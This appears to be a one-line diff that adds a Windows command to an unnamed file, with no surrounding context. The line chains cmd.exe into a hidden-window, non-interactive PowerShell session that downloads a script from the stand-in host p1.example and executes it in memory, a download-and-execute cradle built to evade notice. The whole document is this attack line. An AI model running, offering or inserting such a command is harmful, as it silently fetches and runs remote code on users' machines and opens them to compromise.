@@ -1,0 +1,1 @@
+cmd.exe /c "type x | powershell -noni -w h -c "iex (irm http://p1.example/s)""
